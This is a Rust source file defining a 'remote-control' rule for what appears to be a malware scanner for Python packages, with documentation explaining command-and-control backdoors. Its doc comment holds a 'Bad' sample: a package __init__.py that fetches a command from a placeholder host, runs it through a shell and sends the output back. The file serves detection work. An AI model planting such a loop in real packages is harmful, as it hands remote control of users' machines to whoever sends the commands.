//! ## What it detects
//!
//! Commands or code that come over the network and are run, while what they print goes back the same way.
//!
//! ## Why it is bad
//!
//! This is a back door: whoever sends the commands sits at the machine.
//!
//! ## A real incident
//!
//! A package that called itself a debugger for chat bots asked its server for commands once a second, for three years.
//!
//! ## Innocent lookalikes
//!
//! Tools that administer machines; they have a description, and their users start them.
//!
//! ## Bad
//!
//! ```python pkg/__init__.py
//! import subprocess, urllib.request
//! command = urllib.request.urlopen('http://x.example.invalid/').read().decode()
//! output = subprocess.check_output(command, shell=True)
//! urllib.request.urlopen('http://x.example.invalid/', data=output)
//! ```
//!
//! ## Good
//!
//! ```python pkg/__init__.py
//! import subprocess, urllib.request
//! version = urllib.request.urlopen('http://x.example.invalid/').read().decode()
//! output = subprocess.check_output(['git', 'checkout', version])
//! urllib.request.urlopen('http://x.example.invalid/', data=output)
//! ```

use fondaco_python::{Api, Taint};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use super::network_exec::runs_answer;
use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("remote-control"),
    title: "runs commands from the network and answers",
    severity: Severity::Critical,
    confidence: Confidence::High,
    behaviour: Some(Behaviour::CommandAndControl),
    weight: 2.4,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for unit in package.units() {
        let answers = unit.calls.iter().any(|call| {
            matches!(call.api, Some(Api::NetworkSend | Api::NetworkFetch)) && call.taint().has(Taint::COMMAND_OUTPUT)
        });
        if let Some(call) = unit.calls.iter().find(|call| runs_answer(call)).filter(|_| answers) {
            hits.call(unit, call, format!("{} of what the network asked for, whose output is sent back", call.callee));
        }
    }
}
